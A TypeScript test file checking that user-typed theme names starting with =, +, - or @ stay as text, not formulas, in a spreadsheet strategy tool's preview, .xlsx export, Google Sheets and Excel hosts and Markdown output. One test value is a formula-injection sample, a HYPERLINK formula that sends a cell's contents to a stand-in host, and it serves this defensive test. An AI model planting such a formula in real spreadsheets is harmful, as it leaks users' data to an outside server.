/**
 * Text stays text (issue #22): theme names typed as text that start with `=`, `+`, `-` or `@` (typed with the quote
 * prefix, as a user must for a host to take them as text: `'=HYPERLINK(…)`) survive every path as text: the preview's Record
 * snapshot and its .xlsx download (read back by openpyxl, an independent reader, and by ExcelJS), Record snapshot
 * in both hosts' fakes (the History cells hold the text, no formula), and the Markdown of all three.
 */
import { spawnSync } from 'child_process';
import { testNeeding } from '../harness/tools';
import ExcelJS from 'exceljs';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { PreviewWorkbook } from '../../preview/workbook';
import { convertForDownload } from '../../preview/convert';
import { previewStrategyMarkdown, recordPreviewSnapshot } from '../../preview/snapshot';
import { compileTemplate } from '../../shared/templates';
import { writeXlsx } from '../../xlsx/writer';
import { applyPlanSheets } from '../../apps-script/src/templates/executor';
import { recordSnapshot, strategyMarkdown } from '../../apps-script/src/strategy/server';
import { applyPlanExcel } from '../../excel-addin/src/templates/executor';
import { recordSnapshotExcel, strategyMarkdownExcel } from '../../excel-addin/src/strategy/snapshot';
import { createSheetsFake, withSheetsGlobals } from '../fakes/sheets';
import { FakeExcelHost } from '../fakes/excel';

const NOW = new Date(2026, 11, 1, 12);
/** The texts, as the user means them (what the cell must show). */
const TEXTS = [
  '=HYPERLINK("https://x/?leak="&B1,"Details")',
  '== Q1 goals ==',
  '=> migrate',
  '+1 more region',
  '-> later',
  '@platform',
];
/** As a careful user types them: with the quote prefix, which both hosts and the preview read as "this is text". */
const typed = (t: string): string => `'${t}`;
const THEMES = 'Strategic Themes';

/** Each text where Markdown shows it as the theme's heading (escaped for Markdown, still the same text). */
function expectHeadings(markdown: string): void {
  const headings = markdown.split('\n').filter((l) => /^### Theme \d+: /.test(l));
  for (const t of TEXTS) expect(headings.some((h) => h.replace(/\\(.)/g, '$1').endsWith(`: ${t}`))).toBe(true);
}

describe('the preview', () => {
  const wb = new PreviewWorkbook({ firstSheet: 'Sheet1' });
  wb.insertPlan(compileTemplate('strategy-workbook', { example: true, now: NOW }));
  TEXTS.forEach((t, i) => wb.setInput(THEMES, 5 + i, 0, typed(t)));
  recordPreviewSnapshot(wb, NOW);
  const history = (): unknown[] => Array.from({ length: 40 }, (_x, r) => wb.value('Progress History', r, 2));

  test('the sheet shows each text, and Record snapshot writes each as text', () => {
    TEXTS.forEach((t, i) => expect(wb.value(THEMES, 5 + i, 0)).toBe(t));
    for (const t of TEXTS) expect(history()).toContain(t);
    expectHeadings(previewStrategyMarkdown(wb, NOW));
  });

  const withReader = testNeeding('openpyxl');

  withReader('the .xlsx download holds them as string cells (openpyxl, then ExcelJS): no formula', async () => {
    const bytes = await writeXlsx(ExcelJS, convertForDownload(wb).model, { title: 'Technical strategy' });
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tst-text-'));
    const file = path.join(dir, 'strategy.xlsx');
    fs.writeFileSync(file, bytes);
    const script = `
import json, sys, warnings
warnings.simplefilter('ignore')  # the data-bar extension openpyxl does not keep (test/cli/second-reader.test.ts)
import openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
out = []
for ws in (wb['Strategic Themes'], wb['Progress History']):
    for row in ws.iter_rows():
        for c in row:
            if isinstance(c.value, str): out.append([ws.title, c.coordinate, c.data_type, c.value])
print(json.dumps(out))`;
    const r = spawnSync('/usr/bin/python3', ['-c', script, file], { encoding: 'utf8' });
    expect(r.stderr).toBe('');
    const cells = JSON.parse(r.stdout) as [string, string, string, string][];
    for (const sheet of [THEMES, 'Progress History'])
      for (const t of TEXTS) expect(cells).toContainEqual([sheet, expect.any(String), 's', t]);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    for (const ws of book.worksheets.filter((w) => w.name === THEMES || w.name === 'Progress History'))
      ws.eachRow((row) =>
        row.eachCell((c) => {
          if (typeof c.value === 'object' && c.value !== null && 'formula' in c.value)
            expect(TEXTS.map((t) => t.slice(1))).not.toContain(c.value.formula);
        }),
      );
    fs.rmSync(dir, { recursive: true, force: true });
  });
});

test('Google Sheets: Record snapshot writes the names as text (no formula), the document shows them', () => {
  const fake = createSheetsFake(['Sheet1']);
  withSheetsGlobals(fake, () => {
    applyPlanSheets(fake.ss.real(), compileTemplate('strategy-workbook', { example: true, now: NOW }));
    const themes = fake.ss.real().getSheetByName(THEMES)!;
    TEXTS.forEach((t, i) => themes.getRange(7 + i, 1).setValue(typed(t))); // typed by the user, in rows 7–12
    recordSnapshot();
    const h = fake.ss.sheets.find((s) => s.name === 'Progress History')!;
    const names = [...h.cells].filter(([k]) => k.endsWith(',3')).map(([, c]) => c);
    for (const t of TEXTS) {
      const c = names.find((x) => x.value === t);
      expect(c).toBeDefined();
      expect(c!.formula).toBeUndefined();
    }
    expectHeadings(strategyMarkdown());
  });
});

test('Excel: Record snapshot writes the names as text (no formula), the document shows them', async () => {
  const host = new FakeExcelHost(['Sheet1']);
  const ctx = (): Excel.RequestContext => host.context() as unknown as Excel.RequestContext;
  await applyPlanExcel(ctx(), compileTemplate('strategy-workbook', { example: true, now: NOW }));
  const c0 = ctx();
  const ws = c0.workbook.worksheets.getItem(THEMES);
  TEXTS.forEach((t, i) => (ws.getRangeByIndexes(6 + i, 0, 1, 1).values = [[typed(t)]])); // typed by the user
  await c0.sync();
  await recordSnapshotExcel(ctx());
  const names = Array.from({ length: 40 }, (_x, r) => host.cell('Progress History', `C${r + 2}`));
  for (const t of TEXTS) {
    const c = names.find((x) => x?.formula === t);
    expect(c).toBeDefined();
    // Stored as text: quote-prefixed (what starts with =, +, - or @ would otherwise be a formula through `values`).
    expect(c!.quoted).toBe(true);
  }
  expectHeadings(await strategyMarkdownExcel(ctx()));
});
